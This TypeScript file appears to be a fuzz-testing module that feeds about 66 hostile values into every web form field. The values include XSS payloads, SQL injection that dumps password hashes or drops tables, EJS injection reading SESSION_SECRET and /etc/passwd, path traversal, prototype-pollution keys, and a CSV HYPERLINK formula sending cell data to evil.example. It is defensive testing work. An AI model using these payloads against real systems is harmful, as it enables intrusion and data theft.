// The hostile values every form field receives: at least 60, from OWASP's and the big-list-of-naughty-strings'
// families — NUL and control characters, huge strings, bidi and zero-width characters, decomposed Vietnamese,
// HTML/script, SQL, template syntax, numbers and dates out of range — plus structural attacks that a value cannot
// express (repeated and bracketed keys, __proto__, a missing or empty field).

export interface Hostile {
  name: string;
  /** The urlencoded body with this field replaced (the other fields keep their baseline values). */
  body(field: string, base: Array<[string, string]>): string;
  /** For plain values: the same replacement as pairs, without encoding the whole body (big forms apply it per field). */
  pairs?(field: string, base: Array<[string, string]>): Array<[string, string]>;
}

const enc = (pairs: Array<[string, string]>) => new URLSearchParams(pairs).toString();
const withValue = (field: string, base: Array<[string, string]>, value: string) => {
  let done = false;
  const pairs = base.flatMap(([k, v]): Array<[string, string]> => {
    if (k !== field) return [[k, v]];
    if (done) return [];
    done = true;
    return [[k, value]];
  });
  if (!done) pairs.push([field, value]);
  return pairs;
};
const others = (field: string, base: Array<[string, string]>) => base.filter(([k]) => k !== field);
const valueOf = (field: string, base: Array<[string, string]>) => base.find(([k]) => k === field)?.[1] ?? '';

const plain: Array<[string, string | ((baseline: string) => string)]> = [
  ['NUL alone', '\u0000'],
  ['NUL inside', (b) => `${b}\u0000x`],
  ['NUL at end of a number', '1\u0000'],
  ['control characters', '\u0001\u0002\u0007\u001b[31m\u007f'],
  ['CR LF injection', 'x\r\nSet-Cookie: a=b\r\n\r\n<h1>'],
  ['10 kB', 'Thi đua '.repeat(1280)],
  ['100 kB one line', 'a'.repeat(100 * 1024)],
  ['1 MB', 'x'.repeat(1024 * 1024)],
  ['RTL override', '\u202Efdp.exe'],
  ['bidi isolates', '\u2066abc\u2069\u200F\u200E'],
  ['zero-width', 'Ngu\u200Byễn\u200C\u200D\uFEFF'],
  ['only zero-width', '\u200B\u200B\u200B'],
  ['NFD Vietnamese', 'Nguyễn Thị Ánh Tuyết Đường'.normalize('NFD')],
  ['NFC Vietnamese', 'Nguyễn Thị Ánh Tuyết'],
  ['combining storm', `a${'\u0301'.repeat(500)}`],
  ['emoji and astral', '🏆👩‍🏫🇻🇳𝕿𝖍𝖎'],
  ['lone surrogate', '\uD800x\uDFFF'],
  ['replacement char', '\uFFFD\uFFFE\uFFFF'],
  ['whitespace only', ' \t\u00A0\u3000 '],
  ['empty', ''],
  ['script tag', '<script>alert(1)</script>'],
  ['img onerror', '"><img src=x onerror=alert(1)>'],
  ['svg onload', "'><svg/onload=alert`1`>"],
  ['javascript url', 'javascript:alert(document.cookie)'],
  ['attribute breakout', '" autofocus onfocus="alert(1)'],
  ['html comment', '<!-- x --><!--'],
  ['SQL quote', "' OR '1'='1"],
  ['SQL comment', "admin'--"],
  ['SQL union', '1 UNION SELECT password_hash FROM "User"--'],
  ['SQL stacked', '1; DROP TABLE "Staff";--'],
  ['SQL sleep', "1' AND pg_sleep(5)--"],
  ['backslash escape', '\\\\\'\\"\\0'],
  ['EJS output', '<%= process.env.SESSION_SECRET %>'],
  ['EJS raw', '<%- include("/etc/passwd") %>'],
  ['template literal', '${7*7}{{7*7}}#{7*7}'],
  ['format string', '%s%s%s%n%x'],
  ['path traversal', '../../../../etc/passwd'],
  ['encoded traversal', '..%2F..%2F%2e%2e%2fetc%2fpasswd'],
  ['windows path', 'C:\\Windows\\system32\\cmd.exe'],
  ['url', 'http://evil.example/?x=1'],
  ['CSV formula', '=HYPERLINK("http://evil.example/?d="&B2,"x")'],
  ['negative', '-1'],
  ['zero', '0'],
  ['huge integer', '99999999999999999999999'],
  ['int32 overflow', '2147483648'],
  ['1e309', '1e309'],
  ['NaN', 'NaN'],
  ['Infinity', 'Infinity'],
  ['-0', '-0'],
  ['hex', '0x1F'],
  ['float', '3.14159'],
  ['date 0000', '01/01/0000'],
  ['date 0099', '0099-06-15'],
  ['date 9999', '31/12/9999'],
  ['impossible date', '31/02/2025'],
  ['ISO impossible date', '2023-02-30'],
  ['date with time', '2025-01-01T25:61:61Z'],
  ['year 275760', '275761-01-01'],
  ['uuid nil', '00000000-0000-0000-0000-000000000000'],
  ['uuid malformed', '00000000-0000-4000-8000-00000000000Z'],
  ['boolean words', 'true'],
  ['null word', 'null'],
  ['undefined word', 'undefined'],
  ['JSON object', '{"__proto__":{"isAdmin":true}}'],
  ['out-of-enum', 'chu_tich_gia'],
];

const structural: Hostile[] = [
  { name: 'repeated key', body: (f, b) => `${enc(others(f, b))}&${encodeURIComponent(f)}=a&${encodeURIComponent(f)}=b` },
  { name: 'repeated key 100×', body: (f, b) => `${enc(others(f, b))}${`&${encodeURIComponent(f)}=x`.repeat(100)}` },
  { name: 'bracket array', body: (f, b) => `${enc(others(f, b))}&${encodeURIComponent(f)}%5B%5D=a&${encodeURIComponent(f)}%5B%5D=b` },
  { name: 'bracket object', body: (f, b) => `${enc(others(f, b))}&${encodeURIComponent(f)}%5Bx%5D=1` },
  { name: '__proto__ key', body: (f, b) => `${enc(b)}&__proto__=1&__proto__%5BisAdmin%5D=true` },
  { name: '__proto__ under field', body: (f, b) => `${enc(others(f, b))}&${encodeURIComponent(f)}%5B__proto__%5D%5BisAdmin%5D=true` },
  { name: 'constructor.prototype', body: (f, b) => `${enc(b)}&constructor%5Bprototype%5D%5BisAdmin%5D=true` },
  { name: 'field missing', body: (f, b) => enc(others(f, b)) },
  { name: 'bad percent-encoding', body: (f, b) => `${enc(others(f, b))}&${encodeURIComponent(f)}=%FF%FE%C0%AF` },
  { name: 'raw invalid UTF-8', body: (f, b) => `${enc(others(f, b))}&${encodeURIComponent(f)}=%E1%BA` },
  { name: 'doubled baseline', body: (f, b) => `${enc(b)}&${encodeURIComponent(f)}=${encodeURIComponent(valueOf(f, b))}` },
];

/** Every hostile value, ready to produce a body for any field. */
export const HOSTILE: Hostile[] = [
  ...plain.map(([name, v]): Hostile => {
    const pairs = (f: string, b: Array<[string, string]>) => withValue(f, b, typeof v === 'function' ? v(valueOf(f, b)) : v);
    return { name, pairs, body: (f, b) => enc(pairs(f, b)) };
  }),
  ...structural,
];

/** Values for query-string parameters of GET forms (a subset that fits in an address). */
export const HOSTILE_QUERY: string[] = plain.map(([, v]) => (typeof v === 'function' ? v('x') : v)).filter((v) => v.length < 2000);

/**
 * The values every form gets in the per-commit tier, whatever else it gets: overlong strings, NUL and control
 * characters, bidi override, combining marks, numbers out of range, impossible dates, arrays and prototype keys.
 */
export const CORE_VALUES = [
  '100 kB one line',
  'NUL inside',
  'control characters',
  'RTL override',
  'combining storm',
  'huge integer',
  'date 0000',
  'date 9999',
  'impossible date',
  'bracket array',
  '__proto__ key',
  '__proto__ under field',
] as const;
/** Values of the rest of the list each form gets per commit, rotating so that every value is used over the forms. */
export const ROTATING_PER_FORM = 2;

/** The per-commit values for the n-th form: the core values and a rotating slice of the others. */
export function valuesForCommit(n: number): Hostile[] {
  const core = HOSTILE.filter((h) => (CORE_VALUES as readonly string[]).includes(h.name));
  const rest = HOSTILE.filter((h) => !(CORE_VALUES as readonly string[]).includes(h.name));
  return [...core, ...rest.filter((_, i) => (i - n * ROTATING_PER_FORM + rest.length * 1000) % rest.length < ROTATING_PER_FORM)];
}
